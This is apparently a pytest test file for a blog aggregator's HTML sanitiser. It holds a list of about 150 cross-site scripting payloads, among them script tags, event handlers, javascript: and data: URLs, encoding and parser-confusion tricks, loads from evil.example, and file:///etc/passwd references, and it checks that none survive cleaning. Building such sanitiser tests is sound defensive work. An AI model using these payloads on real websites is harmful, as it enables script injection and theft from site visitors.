"""A collection of markup that has run script, or reached out, in some browser or reader: nothing of it is left."""

from __future__ import annotations

import re
from html import unescape

import lxml.html
import pytest
from selectolax.lexbor import LexborHTMLParser

from aggregator.clean import ATTRIBUTES, SCHEMES, TAGS, clean
from aggregator.plain import text_of, title_of

BASE = "https://blog.example/posts/1"

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) ",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x"onerror="alert(1)">',
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src=JaVaScRiPt:alert(1)>",
    '<img src="jav\tascript:alert(1)">',
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="jav&#x0A;ascript:alert(1)">',
    '<img src=" &#14; javascript:alert(1)">',
    '<img src="\x01javascript:alert(1)">',
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    "<img dynsrc='javascript:alert(1)'><img lowsrc='javascript:alert(1)'>",
    '<img srcset="javascript:alert(1) 1x">',
    '<img srcset="x 1x, data:text/html,<script>alert(1)</script> 2x">',
    '<img data-src="javascript:alert(1)" src="data:,">',
    '<img data-srcset="javascript:alert(1) 1x" src="data:,">',
    '<img data-original="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src=x alt="--><script>alert(1)</script>">',
    '<img alt="<script>alert(1)</script>" src="data:,">',
    '<img alt="&lt;script&gt;alert(1)&lt;/script&gt;" src="">',
    '<img alt="&amp;lt;script&amp;gt;" src="">',
    "<image src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#x1;javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58alert(1)">x</a>',
    '<a href="//javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="jar:https://evil.example/x!/y">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="https://x.example" onclick=alert(1) ping="https://evil.example">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href=x style="position:fixed;inset:0">x</a>',
    "<a href='x' target=_blank rel=opener>x</a>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><script>alert(1)</script>'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<div style='behavior:url(#default#time2)' onbegin=alert(1)>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:/a/'><a href='b'>x</a>",
    "<base href='https://evil.example/'><img src=x.png>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<object><param name=movie value=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x archive=//evil.example/x.jar></applet>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<video><source onerror=alert(1) src=javascript:alert(1)></video>",
    "<audio src=data:audio/mp3;base64,AA autoplay onplay=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>x</body>",
    "<body background=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x",
    "<table><td><svg><desc><td><img src=x onerror=alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.example/x></layer>",
    "<isindex action=javascript:alert(1) type=image>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote><q cite='data:x'>y</q>",
    "<del cite='javascript:alert(1)'>x</del>",
    "<div id=x><div name=y class=z contenteditable onpaste=alert(1)>x</div></div>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)></slot>",
    "<portal src=javascript:alert(1)></portal>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<x onclick=alert(1)>click</x>",
    "<custom-element onfocus=alert(1) tabindex=1>x</custom-element>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<p title='x' title='y' onclick=alert(1)>x",
    "<p title='`onmouseover=alert(1)`'>x",
    '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
    "<p/onclick=alert(1)/>x",
    "<p \x00onclick=alert(1)>x",
    "<p on\x00click=alert(1)>x",
    "<\x00script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href=x id=a><a href=y name=b></a>",
    "<ruby><rt><svg><style></rt><img src=x onerror=alert(1)>",
    "<picture><source srcset='javascript:alert(1)'><img src=x onerror=alert(1)></picture>",
    "<time datetime='x' onclick=alert(1)>x</time>",
    "<img src=https://a.example/x.png loading=lazy referrerpolicy=no-referrer usemap=#m ismap crossorigin>",
    "<map name=m><area shape=default href=javascript:alert(1)></map>",
    "<b><p><b><p><b></p></b><script>alert(1)</script>",
    '<table><caption><script>alert(1)</script></table><a href="javascript:alert(1)">',
]

EXTRA = {"a": {"rel"}, "audio": {"controls"}, "video": {"controls"}}
URLS = {"href", "src", "poster"}


def faults(tags: list[tuple[str, dict[str, str]]]) -> list[str]:
    """Name every tag, attribute and URL that the allow-list does not know."""
    found = []
    for tag, attributes in tags:
        if tag not in TAGS:
            found.append(f"<{tag}>")
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset()) | EXTRA.get(tag, set())
        found += [f"{tag}@{name}" for name in attributes if name not in allowed]
        schemes = SCHEMES if tag == "a" else {"http", "https"}
        for name in URLS & attributes.keys():
            if not re.match(f"(?:{'|'.join(schemes)}):", attributes[name].strip(), re.IGNORECASE):
                found.append(f"{tag}@{name}={attributes[name]!r}")
        for candidate in filter(None, attributes.get("srcset", "").split(", ")):
            if not candidate.startswith(("http://", "https://")):
                found.append(f"{tag}@srcset={candidate!r}")
    return found


def by_lexbor(html: str) -> list[tuple[str, dict[str, str]]]:
    body = LexborHTMLParser(f"<body><div>{html}</div></body>").body
    assert body is not None
    nodes = [node for node in body.traverse(include_text=False) if node.tag != "body"]
    return [(node.tag or "", {name: value or "" for name, value in node.attributes.items()}) for node in nodes]


def by_libxml2(html: str) -> list[tuple[str, dict[str, str]]]:
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    return [
        (str(node.tag) if isinstance(node.tag, str) else "comment", {str(k): str(v) for k, v in node.attrib.items()})
        for node in root.iter()
    ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_left(attack: str) -> None:
    result = clean(attack, BASE)

    assert faults(by_lexbor(result)) == []
    assert faults(by_libxml2(result)) == []
    assert clean(result, BASE) == result


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_between_honest_paragraphs_takes_no_more_than_itself(attack: str) -> None:
    result = clean(f"<p>before</p>{attack}", BASE)

    assert result.startswith("<p>before</p>")
    assert faults(by_lexbor(result)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_hidden_once_more_stays_text(attack: str) -> None:
    hidden = attack.replace("&", "&amp;").replace("<", "&lt;")
    result = clean(hidden, BASE)

    assert "<" not in result
    assert faults(by_lexbor(result)) == []


def test_the_collection_is_large() -> None:
    assert len(set(ATTACKS)) >= 150


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_and_titles_of_an_attack_are_one_line(attack: str) -> None:
    for text in (text_of(attack), title_of(attack), text_of(unescape(attack))):
        assert "\n" not in text
        assert "\x00" not in text
